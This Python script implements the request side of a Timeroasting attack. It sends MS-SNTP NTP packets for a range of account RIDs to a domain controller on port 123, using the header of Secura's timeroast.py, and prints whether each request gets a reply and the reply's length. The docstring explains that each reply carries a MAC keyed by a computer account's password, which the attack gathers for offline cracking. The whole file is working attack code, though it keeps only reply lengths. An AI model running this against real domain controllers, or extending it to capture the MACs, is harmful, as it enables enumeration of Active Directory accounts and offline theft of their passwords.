#!/usr/bin/env python3
"""Timeroasting: MS-SNTP requests for a range of RIDs, as Secura's timeroast.py sends them.

usage: timeroast.py DC_IP FIRST_RID COUNT

Each request is a 68-byte NTP client packet (MS-SNTP 2.2.1): the 48-byte NTPv3 header of
timeroast.py, then the key identifier (the RID, little-endian; the top bit would ask for the
previous password, left clear here) and a zero 16-byte checksum. A DC running an MS-SNTP server
answers each with a MAC keyed by that computer account's password, which is what the attack
collects offline. Prints one line per RID, with the answer's length or "no answer".
"""
import socket
import struct
import sys

# timeroast.py's header: LI 3 (unsynchronised), version 3, mode 3 (client), stratum 0, poll 7,
# precision -23, then zeros and a transmit timestamp the server ignores.
NTP_HEADER = bytes.fromhex("db0011e9000000000001000000000000e1b8407debc7e506") + b"\x00" * 24
WAIT = 0.2


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    dc_ip, first, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT)
        for rid in range(first, first + count):
            sock.sendto(NTP_HEADER + struct.pack("<I", rid) + b"\x00" * 16, (dc_ip, 123))
            try:
                answer, _ = sock.recvfrom(512)
                print(f"RID {rid}: {len(answer)}-byte answer")
            except (socket.timeout, ConnectionRefusedError) as error:
                print(f"RID {rid}: no answer ({type(error).__name__})")


if __name__ == "__main__":
    main()
